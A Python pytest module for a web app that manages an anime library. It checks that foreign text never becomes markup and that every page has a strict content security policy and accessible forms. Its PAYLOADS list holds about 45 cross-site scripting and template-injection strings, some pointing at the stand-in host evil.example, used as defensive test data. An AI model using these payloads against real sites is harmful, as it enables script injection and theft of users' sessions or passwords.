"""Foreign texts never become markup, and no page has anything that its policy would have to forbid."""

import re
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime

import httpx
import pytest
from attrs import evolve
from selectolax.lexbor import LexborHTMLParser

from aniworld_core.entities import (
    Episode,
    EpisodeId,
    FolderScan,
    HistoryEntry,
    HistoryKind,
    Language,
    Series,
)
from aniworld_core.errors import Unavailable
from aniworld_core.library import Library
from aniworld_core.testing.arrange import show
from aniworld_core.testing.world import World
from aniworld_web.pages.table import PAGES

PLAIN = "plain"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example/><input name=password>",
    "<button formaction=//evil.example/>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mi//xlink:href='javascript:alert(1)'>x</mi></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '" hx-get="//evil.example/" hx-trigger="load',
    '" hx-on:click="alert(1)',
    "{{ 7 * 7 }}{% include 'base.html' %}",
    "${alert(1)}%(title)s%s%n",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript:alert(1)//http:",
    "\u202e<script>alert(1)</script>\u2066",
    "<scr\u00adipt>alert(1)</script>",
    "\ufeff<img/src=x\u3000onerror=alert(1)>",
)


def hostile(payload: str) -> Series:
    """Return a series that says nothing else, wherever a text may stand."""
    token = re.sub(r"[\s,|]", "", payload)[:60]
    made = show(EpisodeId(1, 1), EpisodeId(1, 2), key="fern")
    episodes: tuple[Episode, ...] = (
        evolve(made.episodes[0], title=payload, languages=(Language(f"other:{token}"),)),
        evolve(made.episodes[1], original_title=payload, hosters=(payload,)),
    )
    return evolve(
        made,
        title=payload,
        aliases=(payload,),
        description=payload,
        genres=(payload,),
        cover=payload,
        link=payload,
        ref=payload,
        episodes=episodes,
        folder=payload,
    )


def arrange(library: Library, world: World, payload: str) -> None:
    series = hostile(payload)
    world.series = {"fern": series}
    world.provider_error = None
    library.store.series.put(series, evolve(show(EpisodeId(1, 1), key="moss"), title=payload))
    library.store.files.forget(*library.store.files.folders())
    library.store.files.record(FolderScan(folder=f"x {payload}", device=1, dirs={}, files=()))
    entry = HistoryEntry(
        key=series.key,
        episode=EpisodeId(1, 1),
        at=datetime(2026, 1, 1, tzinfo=UTC),
        kind=HistoryKind.FAILED,
        text=payload,
        hoster=payload,
        path=payload,
    )
    library.store.history.append(*[entry] * 101)


def shape(text: str) -> Counter[tuple[str, ...]]:
    """Count the elements of a page, each with the names of its attributes."""
    found: Counter[tuple[str, ...]] = Counter()
    for node in LexborHTMLParser(text).css("*"):
        found[(node.tag or "", *sorted(node.attributes))] += 1
    return found


def seen(
    client: httpx.Client, library: Library, world: World, payload: str
) -> Iterator[tuple[str, httpx.Response]]:
    """Yield the pages that show a payload, among them those of errors and of what was removed."""
    arrange(library, world, payload)
    asked = {"q": payload, "folder": f"x {payload}", "next": payload, "reason": payload}
    for path in (
        "/",
        "/?view=table",
        "/?view=cards",
        "/series/fern",
        "/series/fern/history",
        "/series/fern/episodes/S01E001",
        "/series/fern/remove",
        "/series/fern/folder",
        "/folders/unclear",
        "/missing",
        "/missing/upgrades",
        "/system/kept",
        "/folders",
    ):
        yield path, client.get(path)
    for path in ("/", "/missing", "/folders/choose", "/add", "/series/fern"):
        yield f"{path} asked", client.get(path, params=asked)
    yield "hits", client.get("/add", params={"q": payload.strip()[:5], "online": "1"})
    world.provider_error = Unavailable(payload, hint=payload)
    yield "failing site", client.get("/add?q=fern&online=1")
    note = client.post("/series/fern/refresh", data={"do": payload})
    cookie = note.headers["set-cookie"].partition(";")[0]
    yield "note", client.get("/series/fern", headers={"cookie": cookie})
    note = client.post("/series/fern/remove", data={"do": payload})
    cookie = note.headers["set-cookie"].partition(";")[0]
    yield "removed", client.get("/removed", headers={"cookie": cookie})
    yield "gone", client.get("/series/fern")


@pytest.fixture
def plain(
    client: httpx.Client, library: Library, world: World
) -> dict[str, Counter[tuple[str, ...]]]:
    """Return the shape of every page with a harmless text."""
    return {name: shape(page.text) for name, page in seen(client, library, world, PLAIN)}


def test_foreign_texts_never_become_markup(
    client: httpx.Client,
    library: Library,
    world: World,
    plain: dict[str, Counter[tuple[str, ...]]],
) -> None:
    assert len(set(PAYLOADS)) >= 40
    for payload in PAYLOADS:
        for name, page in seen(client, library, world, payload):
            assert page.status_code < 500, (name, payload)
            assert shape(page.text) == plain[name], (name, payload)


@pytest.mark.parametrize("language", ["en", "de"])
def test_every_page_is_well_made(
    client: httpx.Client, library: Library, world: World, language: str
) -> None:
    client.headers["accept-language"] = language
    paths = [re.sub(r"\{\w+\}", "fern", page.path) for page in PAGES if page.method == "GET"]
    for filled in (False, True):
        if filled:
            arrange(library, world, PLAIN)
        for path in paths:
            page = client.get(path, follow_redirects=True)
            assert page.status_code < 500, path
            assert page.headers["content-type"] == "text/html; charset=utf-8", path
            check_policy(page, path)
            check_form(LexborHTMLParser(page.text), language, path)


def check_policy(page: httpx.Response, path: str) -> None:
    policy = page.headers["content-security-policy"]
    assert "default-src 'self'" in policy
    assert "unsafe" not in policy
    tree = LexborHTMLParser(page.text)
    assert not tree.css("style, [style], script:not([src]), iframe, object, embed, base"), path
    for node in tree.css("*"):
        for name, value in node.attributes.items():
            assert not name.startswith(("on", "hx-on")), (path, name)
            if name in {"src", "href", "action", "hx-get", "hx-post"}:
                assert (value or "").startswith(("/", "#")), (path, name, value)
                assert not (value or "").startswith("//"), (path, name, value)


def check_form(tree: LexborHTMLParser, language: str, path: str) -> None:
    root = tree.css_first("html")
    assert root is not None
    assert root.attributes["lang"] == language, path
    assert len(tree.css("h1")) == 1, path
    assert len(tree.css("main#content")) == 1, path
    ids = Counter(node.attributes["id"] for node in tree.css("[id]"))
    assert not [one for one, count in ids.items() if count > 1], (path, ids)
    labelled = {node.attributes["for"] for node in tree.css("label[for]")}
    for node in tree.css("input:not([type=hidden]), select, textarea"):
        around = node.parent is not None and node.parent.tag == "label"
        named = node.attributes.get("id") in labelled or "aria-label" in node.attributes
        assert around or named, (path, node.html)
    for node in tree.css("form[method=post] button, a"):
        assert node.text().strip() or "aria-label" in node.attributes, (path, node.html)
